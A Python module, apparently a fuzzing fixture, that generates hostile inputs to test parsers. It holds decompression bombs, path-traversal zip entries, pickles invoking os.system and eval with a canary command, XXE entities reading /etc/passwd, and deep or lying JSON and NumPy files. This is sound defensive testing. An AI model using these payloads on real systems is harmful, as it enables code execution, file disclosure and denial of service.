"""Content that is hostile by design: decompression bombs, pickles that call, documents that grow or nest without end."""

import bz2
import functools
import gzip
import io
import pickle
import random
import struct
import zipfile
from collections.abc import Callable

import lz4.frame
import zstandard

BOMB_BYTES = 1_500_000_000
CANARY = "escaped"
PREPARED: dict[str, bytes] = {}


def prepare() -> dict[str, bytes]:
    """Every bomb, by its kind: made once, and handed to the workers."""
    return {kind: bomb(kind) for kind in ("gz", "bz2", "zstd", "lz4", "zip")}


@functools.cache
def bomb(kind: str) -> bytes:
    """A small file that unpacks to gigabytes of zeros."""
    if kind in PREPARED:
        return PREPARED[kind]
    piece = bytes(10_000_000)
    if kind == "gz":
        return _repeated(gzip.compress(piece, mtime=0))
    if kind == "bz2":
        return _repeated(bz2.compress(piece))
    if kind == "zstd":
        packer = zstandard.ZstdCompressor(level=1).compressobj()
        return b"".join(packer.compress(piece) for _ in range(BOMB_BYTES // len(piece))) + packer.flush()
    if kind == "lz4":
        return _repeated(lz4.frame.compress(piece))
    return zip_of({"0.bin": piece * 40} | {f"{k}.bin": piece for k in range(1, 20)})


def _repeated(member: bytes) -> bytes:
    """Concatenated members are one stream for gzip, bzip2 and lz4."""
    return member * (BOMB_BYTES // 10_000_000)


def zip_of(members: dict[str, bytes]) -> bytes:
    """A zip archive with any member names, hostile ones too."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return sink.getvalue()


def traversing_zip(data: bytes) -> bytes:
    """A zip whose members want to lie outside the folder it is unpacked to."""
    names = (
        f"../../{CANARY}.json",
        f"/tmp/{CANARY}.json",
        f"..\\..\\{CANARY}.json",
        f"a/../../../{CANARY}.parquet",
        "C:\\escaped",
        "ok.json",
    )
    return zip_of(dict.fromkeys(names, data))


class Call:
    """Pickles as a call."""

    def __init__(self, function: Callable[..., object], *args: object) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.function, self.args


def _global(module: str, name: str, argument: str) -> bytes:
    """Protocol 2: module.name(argument)."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"(X" + struct.pack("<I", len(argument)) + argument.encode() + b"tR."


def pickles() -> list[bytes]:
    """Pickles that call, grow, nest or lie."""
    return [*_calls(), *_growing(), *_lying()]


def _calls() -> list[bytes]:
    touch, write = f"touch ../{CANARY}", f"open('../{CANARY}', 'w')"
    named = [("os", "system"), ("posix", "system"), ("subprocess", "getoutput"), ("numpy.f2py.diagnose", "run_command")]
    others = [
        ("numpy", "load"), ("numpy", "ndarray"), ("numpy.core.multiarray", "scalar"), ("numpy.core.multiarray", "_reconstruct"),
        ("pandas", "read_pickle"), ("_codecs", "encode"), ("pathlib", "PosixPath"), ("builtins", "bytearray"),
        ("flywheel.store", "DiskStore"),
    ]  # fmt: skip
    return [
        *(_global(module, name, touch) for module, name in named), *(_global(module, name, f"../{CANARY}") for module, name in others),
        *(_global("builtins", name, write) for name in ("eval", "exec", "__import__", "open", "getattr")),
        b"cos\nsystem\n(S'" + touch.encode() + b"'\ntR.", b"(S'" + touch.encode() + b"'\nios\nsystem\n.",
        pickle.dumps(Call(print, "called"), protocol=5), pickle.dumps(Call(bytearray, 1 << 40), protocol=4),
        pickle.dumps(Call(range, 1 << 60), protocol=4),
    ]  # fmt: skip


def _growing() -> list[bytes]:
    laughs = b"".join(b"]q" + bytes([k]) + b"(" + (b"h" + bytes([k - 1])) * 10 + b"e" for k in range(1, 60))
    return [
        b"\x80\x02]q\x00" + laughs + b".", b"\x80\x04" + b"(" * 1_000_000 + b".", b"\x80\x04" + b"]" * 1_000_000 + b"a" * 999_999 + b".",
        b"\x80\x04)" + b"\x85" * 2_000_000 + b".", b"\x80\x02(lp0\n" + b"g0\na" * 50_000 + b".", b"I" + b"9" * 100_000 + b"\n.",
    ]  # fmt: skip


def _lying() -> list[bytes]:
    return [
        b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"x.", b"\x80\x04\x8d" + struct.pack("<Q", (1 << 63) - 1) + b"x.",
        b"\x80\x04\x95" + struct.pack("<Q", 1 << 61) + b"N.", b"\x80\x02Nr\xff\xff\xff\xff.", b"\x80\x02Nr\xff\xff\xff\x7f.",
        b"\x80\x02\x8b\xff\xff\xff\x7f.", b"\x80\x04\x8a\xff" + b"\xff" * 255 + b".", b"\x80\x04" + b"2" * 10 + b".", b"\x80\x02\x82\x01.",
        b"\x80\x02}(X\x01\x00\x00\x00akX\x01\x00\x00\x00bu.", b"\x80\x05\x97.", b"\x80\xff.", b".", b"N.", b"\x80\x04}.", b"F1e999\n.",
    ]  # fmt: skip


def pickle_bomb(rng: random.Random) -> bytes:
    """One of the hostile pickles."""
    return rng.choice(pickles())


def xml_entities(body: bytes, rng: random.Random) -> bytes:
    """An XML document that declares entities: growing ones, or ones that read files or the network."""
    laughs = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 12))
    quadratic = f'<!ENTITY big "{"a" * 100_000}">'
    heads = [
        (f'<!DOCTYPE z [<!ENTITY l0 "ha">{laughs}]>', "&l11;"), (f"<!DOCTYPE z [{quadratic}]>", "&big;" * 2000),
        ('<!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"), ('<!DOCTYPE z SYSTEM "http://127.0.0.1:9/x.dtd">', ""),
        ('<!DOCTYPE z [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', ""),
    ]  # fmt: skip
    head, use = rng.choice(heads)
    start = body.find(b"?>") + 2 if body.startswith(b"<?xml") else 0
    at = body.find(b">", body.find(b"<", start)) + 1
    return body[:start] + head.encode() + body[start:at] + use.encode() + body[at:]


def deep_json(rng: random.Random) -> bytes:
    """JSON that nests or grows beyond reason, or is not what anyone expects."""
    depth = rng.choice([2_000, 100_000, 2_000_000])
    deep = (
        b"[" * depth + b"]" * depth,
        b'{"a":' * depth + b"1" + b"}" * depth,
        b"[" * depth,
        b"9" * 200_000,
        b'"' + b"\\ud800" * 1000 + b'"',
    )
    odd = (
        b"[1e999]",
        b"[" + b"NaN," * 1000 + b"0]",
        b'{"a": 1, "a": 2}',
        b"null",
        b"[]",
        b"{}",
        b"[{}]",
        b"[[]]",
        b"true",
        b'"x"',
        b"-",
        b"\xef\xbb\xbf[]",
    )
    return rng.choice(rng.choice((deep, odd)))


def absurd_npy(rng: random.Random) -> bytes:
    """A NumPy file whose header lies, or asks for objects (a pickle)."""
    shape, kind = rng.choice(
        [((1 << 40,), "<f8"), ((1 << 62, 4), "<f8"), ((3,), "|O"), ((-1,), "<f8"), ((10,), "|S99999999"), ((0, 1 << 50), "<f8")]
    )
    header = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}".encode().ljust(117) + b"\n"
    tail = pickles()[0] if kind == "|O" else bytes(64)
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", rng.choice([len(header), 65_535, 1])) + header + tail
